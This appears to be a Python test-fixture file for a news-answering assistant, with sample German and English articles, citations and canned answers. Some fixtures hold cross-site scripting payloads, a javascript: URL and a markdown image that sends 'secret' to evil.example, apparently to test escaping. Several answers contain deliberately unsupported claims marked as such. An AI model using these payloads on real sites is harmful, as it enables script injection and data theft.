"""Articles and answers that can be read here, without a model or an index."""

from __future__ import annotations

import datetime
from collections.abc import Sequence
from dataclasses import replace

from assistant.answer import Answer, Citation, DateFilter, Offer, Searched, Sentence
from vectorstore.article import Article, Passage

HOSTILE = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>'


_FILLER = "\n\n".join(
    f"Absatz {number}. Die Gespräche dauerten bis in den Abend, und viele Fragen blieben offen. "
    "Beobachter sprachen von einem ersten Schritt, dem weitere folgen müssten."
    for number in range(1, 13)
)

MERZ = Article(
    id="merz",
    title="Merz nennt Bedingungen für einen Frieden",
    text=(
        "Berlin 🕊️ – Vor dem Gipfel in Alaska hat sich der Bundeskanzler geäußert.\n\n"
        f"{_FILLER}\n\n"
        "Die Ukraine müsse bei weiteren Treffen mit am Tisch sitzen, forderte Merz. "
        "Zunächst müsse es einen Waffenstillstand geben.\n\n"
        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.\n\n"
        f"{_FILLER}"
    ),
    language="de",
    origin="/articles/merz.txt",
    date=datetime.date(2025, 8, 13),
    source="Tagesblatt",
    author="Anna Beispiel",
    url="https://tagesblatt.example/merz",
)

TARIFF = Article(
    id="tariff",
    title="US doubles tariff on Indian goods over Russian oil",
    text=(
        "Washington has imposed an additional tariff of 25 percent on goods from India.\n\n"
        "The order names purchases of Russian oil as the reason. "
        "New Delhi called the step unfair, unjustified and unreasonable.\n\n"
        "Together with an earlier tariff, the duty reaches 50 percent."
    ),
    language="en",
    origin="/articles/tariff.txt",
    date=datetime.date(2025, 8, 6),
    source="The Ledger",
)

EVIL = Article(
    id="evil",
    title=f"Böse {HOSTILE}",
    text=f"Vorsicht. {HOSTILE} ![x](http://evil.example/x.png) Ende.",
    language="de",
    origin="upload:evil.txt",
    date=datetime.date(2025, 1, 1),
    source=HOSTILE,
    url="javascript:window.__pwned=1",
)

ARTICLES = (MERZ, TARIFF, EVIL)


def cite(number: int, article: Article, quote: str) -> Citation:
    """Return a citation whose offsets are right to the code point."""
    start = article.text.index(quote)
    return Citation(number, article, quote, start, start + len(quote))


QUOTES = (
    cite(1, MERZ, "Die Ukraine müsse bei weiteren Treffen mit am Tisch sitzen, forderte Merz."),
    cite(2, MERZ, "Zunächst müsse es einen Waffenstillstand geben."),
    cite(
        3,
        MERZ,
        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.",
    ),
)

TARIFF_QUOTES = (
    cite(
        1, TARIFF, "Washington has imposed an additional tariff of 25 percent on goods from India."
    ),
    cite(2, TARIFF, "The order names purchases of Russian oil as the reason."),
    cite(3, TARIFF, "New Delhi called the step unfair, unjustified and unreasonable."),
    cite(4, TARIFF, "Together with an earlier tariff, the duty reaches 50 percent."),
    cite(5, MERZ, "Zunächst müsse es einen Waffenstillstand geben."),
    cite(
        6,
        MERZ,
        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.",
    ),
)


def answer_of(
    question: str, said: Sequence[tuple[str, tuple[int, ...], str | None]], **values: object
) -> Answer:
    """Return an answer made of (sentence, quote numbers, reason against it)."""
    words, sentences = "", []
    for sentence, numbers, reason in said:
        words += " " if words else ""
        start = len(words)
        words += sentence
        proof = ("unsupported", reason, "no_match") if reason else ("supported",)
        sentences.append(Sentence(sentence, start, len(words), numbers, *proof))
    filled = {"language": "en", "kind": "written", "citations": QUOTES} | values
    return Answer(question, question, text=words, sentences=tuple(sentences), **filled)


def merz_answer(question: str) -> Answer:
    return answer_of(
        question,
        (
            ("Merz demanded that Ukraine sit at the table at further meetings.", (1,), None),
            ("There must first be a ceasefire, and robust security guarantees.", (2, 3), None),
            ("He also wants to keep his influence in the region.", (), "No quote says this."),
        ),
    )


def stopped_answer(answer: Answer, written: str) -> Answer:
    """Return what remains of an answer that was stopped when so much of it was written."""
    whole = tuple(one for one in answer.sentences if one.end <= len(written))
    if not whole:
        notice = "Stopped by you before a sentence was whole."
        return replace(answer, kind="quotes", sentences=(), notice=notice)
    text = answer.text[: whole[-1].end]
    notice = f"Stopped by you. Whole sentences: {len(whole)} of {len(whole) + 1}."
    return replace(answer, kind="stopped", text=text, sentences=whole, notice=notice)


def german_answer(question: str) -> Answer:
    """Return a German answer with an English quote and two kinds of doubt."""
    return answer_of(
        question,
        (
            ("Die Ukraine muss laut Merz mit am Tisch sitzen.", (1,), None),
            (
                "Zugleich erhebt Washington einen Zoll von 30 Prozent auf Waren aus Indien.",
                (),
                "Das Zitat, das am nächsten kommt, nennt keine 30 Prozent.",
            ),
            ("Der Grund sind Indiens Käufe von russischem Öl.", (2,), None),
            ("Merz reist dazu nach Alaska.", (), "Kein Zitat in den Artikeln sagt das."),
        ),
        language="de",
        citations=(QUOTES[0], replace(TARIFF_QUOTES[1], number=2)),
    )


def unproven_answer(question: str) -> Answer:
    """Return the quotes that are left where nothing of a written answer held."""
    notice = "Nothing of the answer that was written is proven by the articles."
    return replace(quotes_answer(question), language="en", notice=notice)


def tariff_answer(question: str) -> Answer:
    return answer_of(
        question,
        (
            ("The US imposed an additional tariff of 25 percent on Indian goods.", (1,), None),
            ("The reason is India's purchases of Russian oil.", (2,), None),
            ("India called the step unfair, and the duty now reaches 50 percent.", (3, 4), None),
        ),
        citations=TARIFF_QUOTES,
        notice="The passages were shortened for the model.",
    )


def hostile_answer(question: str) -> Answer:
    image = "![x](http://evil.example/steal.png?q=secret)"
    return answer_of(
        question,
        (
            (f"Look {HOSTILE} {image} [here](http://evil.example/).", (1,), None),
            ("<b>Bold</b> and more.", (), HOSTILE),
        ),
        citations=(cite(1, EVIL, HOSTILE),),
        notice=HOSTILE,
    )


def quotes_answer(question: str) -> Answer:
    return Answer(
        question,
        question,
        "de",
        "quotes",
        " ".join(quote.quote for quote in QUOTES),
        citations=QUOTES,
        notice="Das Sprachmodell ist aus; hier sind die besten Zitate.",
    )


def missing_answer(question: str) -> Answer:
    passage = Passage(TARIFF, TARIFF.text[:150], 0, 150, 0.71)
    return Answer(
        question,
        question,
        "en",
        "not_found",
        "The articles do not say anything about this.",
        passages=(passage, Passage(MERZ, MERZ.text[:400], 0, 400, 0.6)),
    )


def moon_answer(question: str) -> Answer:
    """Return what comes nearest, and what was searched."""
    days = datetime.date(2014, 3, 3), datetime.date(2025, 5, 12)
    return replace(
        missing_answer(question),
        text="Not in your 214 articles (3 March 2014 to 12 May 2025).",
        searched=Searched(214, *days),
        nearest=(replace(TARIFF_QUOTES[2], number=0), replace(QUOTES[1], number=0)),
    )


COPY = replace(MERZ, id="copy", title="Kanzler stellt Bedingungen", source="Abendpost", text="")
MERZ_PASSAGE = Passage(
    MERZ, MERZ.text[QUOTES[0].start : QUOTES[2].end], QUOTES[0].start, QUOTES[2].end, 0.9, (COPY,)
)


def agency_answer(question: str) -> Answer:
    return replace(merz_answer(question), passages=(MERZ_PASSAGE,))


def hidden_answer(question: str) -> Answer:
    """Return the "no" of a question that a filter keeps from its answer."""
    return replace(
        missing_answer(question),
        language="de",
        text="Nicht in dem einen Artikel aus The Ledger (6. August 2025).",
        searched=Searched(1, TARIFF.date, TARIFF.date),
        offers=(Offer("filters", 1),),
        passages=(),
    )


def undated_answer(question: str) -> Answer:
    """Return that no article is of the days asked for, with the nearest days that have some."""
    day = datetime.date(2025, 8, 14)
    return replace(missing_answer(question), nearest_days=DateFilter((), day, day))


def nothing_answer(question: str) -> Answer:
    notice = "No article fits the filters that are set. Remove one."
    return replace(missing_answer(question), passages=(), notice=notice)
